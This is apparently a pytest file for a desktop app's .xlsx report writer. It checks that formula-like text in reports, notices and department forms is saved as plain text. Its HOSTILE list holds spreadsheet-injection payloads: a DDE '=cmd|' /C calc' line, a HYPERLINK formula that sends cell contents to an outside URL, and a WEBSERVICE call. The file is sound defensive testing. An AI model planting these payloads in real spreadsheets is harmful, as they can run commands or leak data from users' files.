"""Text that looks like a formula is written as text by every .xlsx writer."""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from desktop_app import clock
from desktop_app.reports.model import Column, Group, Notice, Report, Row
from desktop_app.reports.safe_cell import looks_like_formula, text_cell
from desktop_app.reports.xlsx import write_xlsx
from desktop_app.text_safety import safe_text

HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://example.invalid/?x="&A1,"点击")',
    "+86-10-12345678",
    "-完成一半",
    "@SUM(A1:A9)",
    "\t=cmd|' /C calc'!A0",
    "\r=2*3",
    "=WEBSERVICE(\"http://example.invalid\")",
]


def formula_cells(path: Path) -> list[str]:
    """Every ``<f>`` (formula) element in any worksheet of the file."""
    found = []
    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                found += re.findall(r"<(?:\w+:)?f[ >][^<]*", zf.read(name).decode("utf-8"))
    return found


def test_prefixes():
    assert all(looks_like_formula(t) for t in HOSTILE)
    assert not looks_like_formula("按期完成") and not looks_like_formula("1-2月")


def test_text_cell_round_trips(tmp_path):
    wb = Workbook()
    ws = wb.active
    for r, text in enumerate(HOSTILE, start=1):
        text_cell(ws, r, 1, text)
    text_cell(ws, 1, 2, 42)
    path = tmp_path / "t.xlsx"
    wb.save(path)
    assert formula_cells(path) == []
    back = load_workbook(path).active
    # A carriage return is a line end like any other ("\r=2*3" comes back as "\n=2*3").
    assert [back.cell(r, 1).value for r in range(1, len(HOSTILE) + 1)] == [safe_text(t) for t in HOSTILE]
    assert back.cell(1, 1).quotePrefix and back.cell(1, 2).value == 42


def test_report_xlsx_writes_hostile_text_as_text(tmp_path):
    cols = [Column("seq", "序号"), Column("title", "=工作任务"), Column("done", "本周完成情况")]
    rows = [Row({"seq": str(i), "title": text, "done": text}) for i, text in enumerate(HOSTILE, 1)]
    report = Report(
        kind="weekly", title="=周报表", subtitle="-第47周", columns=cols,
        groups=[Group("@办公室", rows)], summary=["+合计"],
    )
    path = write_xlsx(report, tmp_path / "周报.xlsx")
    assert formula_cells(path) == []
    ws = load_workbook(path).active
    values = {c.value for row in ws.iter_rows() for c in row if c.value}
    assert {safe_text(t) for t in HOSTILE} <= values and "=周报表" in values and "+合计" in values


def test_notice_xlsx_writes_hostile_text_as_text(tmp_path):
    notice = Notice(title="督办通知单", number="=督办〔2026〕1号", addressee="-办公室：",
                    paragraphs=HOSTILE[:3], items=HOSTILE[3:], closing="@请于__月__日前报送",
                    issuer="=局办公室", issued="2026年11月22日")
    report = Report(kind="notice", title="督办通知单", subtitle="", columns=[], notices=[notice],
                    orientation="portrait")
    path = write_xlsx(report, tmp_path / "通知.xlsx")
    assert formula_cells(path) == []


def test_department_forms_write_hostile_text_as_text(tmp_path):
    export = pytest.importorskip("desktop_app.forms.export")
    from desktop_app.domain.weeks import week_id
    from desktop_app.storage import directory, plans, progress, settings, tasks
    from desktop_app.storage.db import open_register

    week = week_id(clock.today())
    with open_register(tmp_path / "台账.db") as reg:
        settings.set_value(reg, "organisation", "=某县教育局")
        dep = directory.add_department(reg, "=HYPERLINK(\"x\")科")
        plan = plans.create_plan(reg, "-2026年工作要点", 2026)
        for n, text in enumerate(HOSTILE):
            task = tasks.add_task(reg, plan, f"任务{n}{text}", standard=text)
            tasks.set_departments(reg, task, dep)
            progress.save_progress(reg, task, week, done=text, next=text, problems=text)
        written = export.export_forms(reg, week, tmp_path / "forms", department_ids=[dep])
    files = [f.path for f in written if f.path is not None]
    assert files
    for path in files:
        assert formula_cells(path) == []
